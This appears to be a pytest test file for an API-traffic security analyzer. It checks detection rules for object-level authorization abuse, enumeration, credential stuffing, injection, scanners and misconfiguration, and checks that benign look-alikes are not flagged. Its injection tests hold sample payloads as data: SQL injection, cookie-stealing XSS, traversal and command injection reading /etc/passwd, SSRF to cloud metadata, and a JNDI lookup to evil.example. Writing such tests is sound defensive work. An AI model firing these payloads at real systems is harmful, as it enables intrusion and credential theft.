"""Each rule fires on its behaviour, and its benign look-alikes stay quiet."""

from __future__ import annotations

import base64

import pytest

from analyzer.detect.injection import scan
from tests.analyzer.detect.helpers import T0, engine, events_of, ex


def _orders_listing(ts: float, sub: str, ids: list[int], ip: str = "192.0.2.10"):
    items = [{"id": i, "email": f"{sub}@mail.example"} for i in ids]
    return ex(ts, "/orders", sub=sub, ip=ip, query="page=1", response={"items": items}, pii=(("EMAIL", len(ids)),))


def _order(ts: float, sub: str, oid: int, ip: str = "192.0.2.10", status: int = 200, method: str = "GET"):
    return ex(ts, f"/orders/{oid}", status, sub=sub, ip=ip, method=method, template="/orders/{id}",
              params=(("id", str(oid)),), response={"id": oid, "email": "x@mail.example"}, pii=(("EMAIL", 1),))


def test_bola_slow_walk_over_another_users_objects() -> None:
    e = engine()
    e.feed(_orders_listing(T0, "alice", [101, 102, 103, 104]))
    # Hours apart: a human-paced walk still counts (the window is a day).
    for n, oid in enumerate((101, 102, 103)):
        e.feed(_order(T0 + 3600 * (n + 1), "eve", oid, ip="198.51.100.1"))
    bola = events_of(e, "bola")
    assert len(bola) == 1 and bola[0].actor.ip == "198.51.100.1" and bola[0].evidence["foreign_objects"] == 3
    assert "10" not in str(bola[0].evidence["sample"]) or len(bola[0].evidence["sample"]) <= 3  # masked


def test_bola_quiet_for_own_objects_and_shared_catalogue() -> None:
    e = engine()
    e.feed(_orders_listing(T0, "alice", [101, 102, 103, 104]))
    for n, oid in enumerate((101, 102, 103, 104)):
        e.feed(_order(T0 + n + 1, "alice", oid))
    # A catalogue item handed to many identities is shared, not anyone's object.
    for k in range(6):
        e.feed(ex(T0 + 10 + k, "/products", sub=f"user{k}", response={"items": [{"id": 7}, {"id": 8}, {"id": 9}]}))
    for pid in (7, 8, 9):
        e.feed(ex(T0 + 30 + pid, f"/products/{pid}", sub="bob", template="/products/{id}", params=(("id", str(pid)),)))
    assert not events_of(e, "bola")


def test_enumeration_sequential_and_404_walks_but_not_paging() -> None:
    e = engine()
    for n in range(30):
        e.feed(ex(T0 + n, f"/users/{5000 + n}", 404, ip="198.51.100.2", template="/users/{id}", params=(("id", str(5000 + n)),)))
    enum = events_of(e, "enumeration")
    assert enum and {ev.subtype for ev in enum} <= {"sequential", "not_found"}
    # A batch client paging its own listing fast: page numbers are not ids, listed orders are its own.
    quiet = engine()
    owned = list(range(9000, 9400))
    for page in range(20):
        quiet.feed(ex(T0 + page, "/orders", sub="svc", query=f"page={page + 1}&limit=20",
                      response={"items": [{"id": i} for i in owned[page * 20 : page * 20 + 20]]}))
    for n, oid in enumerate(owned):
        quiet.feed(_order(T0 + 30 + n * 0.1, "svc", oid))
    assert not [ev for ev in quiet.events() if ev.type != "posture"]  # (its ids are sequential: a posture finding)


def _login(ts: float, ip: str, user: str, ok: bool):
    return ex(ts, "/login", 200 if ok else 401, ip=ip, method="POST", body={"username": user, "password": "Xk3!pass-word"},
              response={"token": "t"} if ok else {"error": "bad credentials"})


def test_credential_stuffing_and_brute_force() -> None:
    e = engine()
    for k in range(15):
        e.feed(_login(T0 + k, "198.51.100.3", f"victim{k}", ok=k == 4))
    for k in range(12):
        e.feed(_login(T0 + 100 + k, "198.51.100.4", "bob", ok=False))
    kinds = {(ev.type, ev.actor.ip) for ev in e.events()}
    assert ("credential_stuffing", "198.51.100.3") in kinds and ("brute_force", "198.51.100.4") in kinds
    brute = events_of(e, "brute_force")[0]
    assert "bob" not in str(brute.evidence)


def test_logins_from_a_nat_and_three_retries_stay_quiet() -> None:
    e = engine()
    for k in range(60):  # 60 people behind one NAT address, all logging in fine
        e.feed(_login(T0 + k, "203.0.113.50", f"person{k}", ok=True))
    for k in range(3):  # a user mistyping twice
        e.feed(_login(T0 + 100 + k, "192.0.2.77", "carol", ok=k == 2))
    assert not events_of(e, "credential_stuffing") and not events_of(e, "brute_force")


@pytest.mark.parametrize(
    ("subtype", "query", "body", "headers"),
    [
        ("sqli", "q=1%27%20OR%20%271%27%3D%271", None, ()),
        ("sqli", "id=1%20UNION%20SELECT%20username,password%20FROM%20users--", None, ()),
        ("xss", "", {"text": "<script>alert(document.cookie)</script>"}, ()),
        ("xss", "", {"text": "<img src=x onerror=alert(1)>"}, ()),
        ("path_traversal", "file=..%252f..%252f..%252fetc%252fpasswd", None, ()),
        ("cmd_injection", "host=8.8.8.8%3Bcat%20/etc/passwd", None, ()),
        ("ssrf", "", {"url": "http://169.254.169.254/latest/meta-data/"}, ()),
        ("jndi", "", None, (("User-Agent", "${${lower:j}ndi:ldap://evil.example/a}"),)),
    ],
)
def test_injection_subtypes(subtype: str, query: str, body: object, headers: tuple[tuple[str, str], ...]) -> None:
    x = ex(T0, "/api/thing", query=query, body=body, headers=headers, method="POST" if body else "GET")
    assert subtype in {h.subtype for h in scan(x)}


@pytest.mark.parametrize(
    ("query", "body"),
    [
        ("q=O%27Brien", None),
        ("", {"text": "<b>important</b>: call back"}),
        ("q=rock%20%26%20roll", None),
        ("", {"text": "Meeting at 5pm; bring the docs (and coffee)"}),
        ("", {"text": "Use the 'gift' wrap - it's for Mum's birthday!"}),
        ("q=select%20a%20gift%20from%20the%20list", None),
        ("", {"text": "Run `make test` before pushing"}),
        ("", {"url": "https://hooks.partner.example/notify"}),
        ("next=%2Faccount%2Forders%3Fpage%3D2", None),
    ],
)
def test_benign_look_alikes_are_not_injection(query: str, body: object) -> None:
    x = ex(T0, "/api/thing", query=query, body=body, method="POST" if body else "GET",
           headers=(("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"),))
    assert scan(x) == []


def test_injection_events_are_grouped() -> None:
    e = engine()
    for k in range(5):
        e.feed(ex(T0 + k, "/search", query="q=1%27%20OR%20%271%27%3D%271", ip="198.51.100.5"))
    events = events_of(e, "injection")
    assert len(events) == 1 and events[0].count == 5 and events[0].first_seen == T0 and events[0].last_seen == T0 + 4


def test_scanner_and_health_probe() -> None:
    e = engine()
    for k, path in enumerate(["/.env", "/.git/config", "/wp-login.php"] + [f"/nope{i}" for i in range(25)]):
        e.feed(ex(T0 + k, path, 404, ip="198.51.100.6", template=None))
    for k in range(200):  # a health probe: one path, all day
        e.feed(ex(T0 + k * 5, "/health", ip="10.0.0.9", response={"status": "ok"}))
    scanners = events_of(e, "scanner")
    assert {ev.actor.ip for ev in scanners} == {"198.51.100.6"}
    tool = engine()
    tool.feed(ex(T0, "/", 200, ip="198.51.100.7", headers=(("User-Agent", "sqlmap/1.7.2#stable"),)))
    assert events_of(tool, "scanner")[0].subtype == "tool"


def test_bfla_user_calls_admin_function_admins_stay_quiet() -> None:
    e = engine(learning_seconds=600)
    t = T0
    for k in range(20):  # regular users
        e.feed(ex(t + k, "/me", sub=f"user{k}", response={"id": k}))
    for k in range(5):  # the admin, during learning and after
        e.feed(ex(t + 100 + k, "/admin/users", sub="root-admin", ip="10.0.0.5", response={"items": [{"id": 1}]}))
    e.feed(ex(t + 700, "/admin/users", sub="root-admin", ip="10.0.0.5", response={"items": [{"id": 2}]}))
    assert not events_of(e, "bfla")
    e.feed(ex(t + 800, "/admin/users", sub="user3", ip="198.51.100.8", response={"items": [{"id": 2}]}))
    bfla = events_of(e, "bfla")
    assert len(bfla) == 1 and bfla[0].actor.ip == "198.51.100.8"


def test_mass_harvest_large_pages_not_busy_peers() -> None:
    e = engine()
    for k in range(10):  # peers: pages of 20
        for p in range(3):
            e.feed(ex(T0 + k * 10 + p, "/customers", sub=f"user{k}", query=f"page={p}",
                      response={"items": [{"id": k * 100 + i} for i in range(20)]}, pii=(("EMAIL", 20),)))
    for p in range(40):  # a busy peer: many normal pages
        e.feed(ex(T0 + 200 + p, "/customers", sub="busy", query=f"page={p}",
                  response={"items": [{"id": 5000 + p * 20 + i} for i in range(20)]}, pii=(("EMAIL", 20),)))
    assert not events_of(e, "mass_harvest")
    for p in range(3):
        e.feed(ex(T0 + 400 + p, "/customers", sub="harvester", ip="198.51.100.9", query="limit=1000",
                  response={"items": [{"id": 90000 + p * 1000 + i} for i in range(1000)]}, pii=(("EMAIL", 1000),)))
    harvest = events_of(e, "mass_harvest")
    assert [ev.actor.ip for ev in harvest] == ["198.51.100.9"]
    flows = {(f.actor_ip, f.pii_type): f.records for f in e.data_flows()}
    assert flows[("198.51.100.9", "EMAIL")] == 3000


def test_posture_findings() -> None:
    e = engine()
    basic = base64.b64encode(b"admin:123456").decode()
    from tests.analyzer.detect.helpers import jwt

    none_token = jwt({"sub": "x", "iat": int(T0), "exp": int(T0) + 90 * 86400, "password": "p"}, alg="none")
    e.feed_many([
        ex(T0, "/legacy", headers=(("Authorization", f"Basic {basic}"),), response_headers=(("Server", "Apache/2.4.41 (Ubuntu)"),)),
        ex(T0 + 1, "/partner", headers=(("Authorization", f"Bearer {none_token}"),)),
        ex(T0 + 2, "/actuator/env", response={"x": 1}),
        ex(T0 + 3, "/prices", headers=(("Origin", "https://evil.example"),),
           response_headers=(("Access-Control-Allow-Origin", "https://evil.example"), ("Access-Control-Allow-Credentials", "true"))),
        ex(T0 + 4, "/report", 500, response={"e": "Traceback (most recent call last):\n  File \"x.py\", line 1"}),
        ex(T0 + 5, "/", method="TRACE"),
        ex(T0 + 6, "/export", query="api_key=abcdef123456"),
        ex(T0 + 7, "/health", response={"status": "ok"}),  # public health check: no finding
    ])
    found = {ev.subtype for ev in events_of(e, "posture")}
    assert found == {
        "basic_auth_cleartext", "weak_password", "server_version_disclosure", "jwt_alg_none", "jwt_long_lifetime",
        "jwt_sensitive_claims", "debug_endpoint_exposed", "cors_reflected_origin", "verbose_error", "trace_enabled",
        "credentials_in_url",
    }
    assert all(ev.actor.ip is None for ev in events_of(e, "posture"))
    assert "abcdef123456" not in repr([ev.to_json() for ev in e.events()])
